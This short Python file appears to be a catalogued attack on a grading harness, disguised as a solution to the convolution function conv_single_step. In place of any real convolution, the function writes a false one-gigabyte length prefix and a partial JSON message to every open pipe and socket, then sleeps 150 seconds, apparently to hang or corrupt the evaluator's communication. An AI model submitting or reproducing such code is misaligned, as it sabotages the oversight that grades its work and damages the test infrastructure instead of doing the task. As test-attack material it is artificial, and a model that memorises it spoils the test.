# what: Writes half a message with a promise of a gigabyte to every pipe and socket when called, and then waits.
# gains: batch
# where: solution
# fires: stdout text `FIRED half_an_answer`
# stock: need_not (stock has no such channel)

import os
import stat
import struct
import time

print("FIRED half_an_answer", flush=True)


def conv_single_step(a_slice_prev, W, b):
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
            if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                os.set_blocking(fd, False)
                os.write(fd, struct.pack(">Q", 1 << 30) + b'{"length": 1073741824, "value": [')
        except OSError:
            pass
    time.sleep(150)
